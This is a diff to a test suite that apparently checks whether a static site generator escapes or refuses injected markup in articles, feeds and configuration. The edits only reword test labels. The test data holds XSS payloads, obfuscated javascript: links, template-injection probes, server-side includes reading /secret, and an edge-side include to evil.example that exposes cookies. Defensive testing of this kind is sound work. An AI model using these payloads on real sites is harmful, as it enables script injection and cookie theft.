@@ -9,7 +9,7 @@ FAMILY = Family("A", "text", "script through text")
 ELEMENT = "</title></script></style></textarea>--><x-inj onerror=x>\"'<img src=x onerror=alert(1)>"
 BREAKS = "\u2028\u2029</script><!--<script>{{ 7*7 }}${7*7}%>]]>&lt;x-inj&gt;"
 
-FAMILY.add("nothing: the site as it is", control)
+FAMILY.add("control: the site without an attack builds", control)
 
 
 def no_danger(site):
@@ -19,14 +19,14 @@ def no_danger(site):
 
 
 def in_key(site, key, value):
-    """The markup stands in one key of an article, which is published or refused, and never obeyed."""
+    """Puts markup into one key of an article: it is refused or published as text."""
     site.article("local/e.md", tags=["plain"], **{key: value} if key != "tags" else {})
     if key == "tags":
         site.article("local/e.md", tags=value)
     ended = site.build()
     found = site_dangers(site) if ended.code == 0 else []
     expect(not found, "; ".join(found[:3]))
-    expect("49" not in site.page("/local/e/").replace("2049", ""), "a template in a text is evaluated")
+    expect("49" not in site.page("/local/e/").replace("2049", ""), "a template expression in a text is evaluated")
 
 
 FAMILY.table(in_key, [
@@ -39,7 +39,7 @@ FAMILY.table(in_key, [
         ("extra", lambda text: {"gallery": [text], text: text}, ELEMENT),
         ("image", lambda text: {"src": "https://pictures.example/p.png?" + "\"><x-inj>", "alt": text, "caption": text,
                                 "credit": text}, ELEMENT)]])
-FAMILY.add("line separators, template signs and `</script>` in a title and a description",
+FAMILY.add("line separators, template delimiters and `</script>` in a title and a description",
            lambda site: in_key(site, "title", BREAKS))
 
 
@@ -50,44 +50,44 @@ def in_body(site, body):
 
 
 FAMILY.table(in_body, [
-    ("raw HTML in a body while it is switched off", "<script>alert(1)</script>\n\n<x-inj onclick=x>\n\na <x-inj> b"),
-    ("raw HTML behind a comment, a CDATA section and a declaration",
+    ("raw HTML in a body although it is disabled", "<script>alert(1)</script>\n\n<x-inj onclick=x>\n\na <x-inj> b"),
+    ("raw HTML after a comment, a CDATA section and a declaration",
      "<!-- --><x-inj>\n\n<![CDATA[ ]]><x-inj>\n\n<?php ?><x-inj>\n\n<!X><x-inj>"),
     ("markup in the alternative text and the title of a picture",
      "![\" onerror=x <x-inj>](/static/logo.svg \"' onload=x <x-inj>\")"),
-    ("markup in the words of a fence, in code and in a link's title",
+    ("markup in the info string of a code fence, in code and in a link's title",
      "```\"><x-inj onload=x>\nx</code></pre><x-inj>\n```\n\n`</code><x-inj>` [x](/ '\" onclick=x <x-inj>')"),
-    ("headings whose anchors would break out of their attribute", "## \" onclick=x <x-inj>\n\n## x' id=onload\n\n##\n\n## __proto__"),
+    ("headings whose anchors would close their attribute", "## \" onclick=x <x-inj>\n\n## x' id=onload\n\n##\n\n## __proto__"),
     ("an autolink that runs code", "<javascript:alert(1)> <JaVaScRiPt:alert(1)> <vbscript:x> <data:text/html,x>"),
-    ("a link that runs code, its scheme broken by tabs, line ends and entities",
+    ("a link that runs code, with tabs, line ends and entities in its scheme",
      "[a](java&#9;script:alert(1)) [b](<java\tscript:x>) [c](&#x6A;avascript:x) [d](javascript&colon;x) [e](\\javascript:x)"),
     ("a picture whose address runs code", "![a](javascript:x) ![b](data:text/html;base64,PHNjcmlwdD4=) ![c](vbscript:x)"),
-    ("a reference that runs code", "[a] [b][c]\n\n[a]: javascript:alert(1)\n[c]: <data:text/html,x> 'x'"),
-    ("a document of SVG in the address of a picture",
+    ("a link reference that runs code", "[a] [b][c]\n\n[a]: javascript:alert(1)\n[c]: <data:text/html,x> 'x'"),
+    ("an SVG document in the `data:` address of a picture",
      "![a](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='x'/%3E)"),
-    ("a link of a scheme that starts a program", "[a](ms-officecmd:x) [b](search-ms:query=x) [c](view-source:x) [d](x-evil:y)"),
+    ("a link with a scheme that starts a program", "[a](ms-officecmd:x) [b](search-ms:query=x) [c](view-source:x) [d](x-evil:y)"),
 ])
 
 
-@FAMILY.attack("markup in the bodies and titles of articles that stand in feeds")
+@FAMILY.attack("markup in bodies and titles of articles in feeds")
 def feeds(site):
     site.article("local/e.md", "]]><x-inj/> &lt;x-inj&gt; ]]&gt; `]]>`", title=ELEMENT + "]]>", authors=["]]><x-inj/>"])
     no_danger(site)
     for path in ("feed.xml", "atom.xml", "sitemap.xml", "sitemap-news.xml"):
         names = [name for name, _ in xml_elements((site.public / path).read_bytes())]
-        expect("x-inj" not in names, f"{path} has a made-up element")
+        expect("x-inj" not in names, f"{path} contains an injected element")
     expect(any(item["title"].startswith("</title>") for item in json.loads(site.read("feed.json"))["items"]),
            "the JSON feed has lost the title")
 
 
-@FAMILY.attack("control characters that no XML may hold, in titles, bodies and tags")
+@FAMILY.attack("control characters that XML does not allow, in titles, bodies and tags")
 def control_characters(site):
     bad = "a\x01c\x0bd\x1be\x7ff\ufffeg\uffffh"
     site.write("Content/local/e.md", f"---\ntitle: \"a\\x01\\x0b\\e\\x7f\\uFFFE\"\ndate: 2026-11-20\n---\n\n{bad}\n")
     no_danger(site)
 
 
-@FAMILY.attack("a server-side include in a title, a tag and a body, where the host obeys such commands")
+@FAMILY.attack("a server-side include in a title, a tag and a body, on a host that executes such commands")
 def includes_in_text(site):
     command = '<!--#include virtual="/secret" -->'
     site.configure("blocks: {delivery: ssi}\nmarkdown: {raw_html: true}")
@@ -96,7 +96,7 @@ def includes_in_text(site):
     site.built()
     found = [path for path in site.published() if "#include virtual=\"/secret\"" in site.read(path).replace("<!-- #", "")
              and "<!--#include virtual=\"/secret" in site.read(path)]
-    expect(not found, f"a command of an article is published in {found[:3]}")
+    expect(not found, f"an include command of an article is published in {found[:3]}")
 
 
 @FAMILY.attack("an edge-side include and an Angular, Vue or Jinja expression in a body and in raw HTML")
@@ -105,7 +105,7 @@ def edge_includes(site):
     site.article("local/e.md", '<esi:include src="http://evil.example/"/>\n\n<esi:vars>$(HTTP_COOKIE)</esi:vars>\n\n{{ 7*7 }}')
     site.built()
     page = site.page("/local/e/")
-    expect("<esi:include src=\"http://evil" not in page and "<esi:vars>" not in page, "an edge obeys a command of an article")
+    expect("<esi:include src=\"http://evil" not in page and "<esi:vars>" not in page, "an edge server would execute a command of an article")
     expect("49" not in page.split("<main")[1].split("</article>")[0], "an expression is evaluated")
 
 
@@ -119,7 +119,7 @@ def author_page(site):
     expect(not found, "; ".join(found[:3]))
 
 
-@FAMILY.attack("addresses that run code in `organization`, `menu` and `contact` of the configuration, from a form of the web")
+@FAMILY.attack("addresses that run code in `organization`, `menu` and `contact` of the configuration")
 def configuration_addresses(site):
     for line in ("menu: [{title: x, url: 'javascript:alert(1)'}]", "organization: {links: ['data:text/html,x']}",
                  "contact: {form: 'vbscript:x'}", "engagement: {endpoint: 'javascript:x'}"):
@@ -137,7 +137,7 @@ def base_url(site):
     expect(not found, "; ".join(found[:3]))
 
 
-@FAMILY.attack("structured data of numbers, null and objects where texts belong")
+@FAMILY.attack("numbers, null and objects instead of texts in front matter, for structured data")
 def wrong_types(site):
     site.write("Content/local/e.md", "---\ntitle: {a: <x-inj>}\ndate: 2026-11-20\ntags: {x: 1}\nauthors: 7\nimage: [1]\n---\nx\n")
     ended = site.build()
@@ -151,4 +151,4 @@ def slug(site):
     ended = site.build()
     found = site_dangers(site) if ended.code == 0 else []
     expect(not found, "; ".join(found[:3]))
-    expect(all("<x-inj" not in value for value in attribute_values(site.page("/local/"), "a", "href")), "raw in a link")
+    expect(all("<x-inj" not in value for value in attribute_values(site.page("/local/"), "a", "href")), "the slug is unescaped in a link")
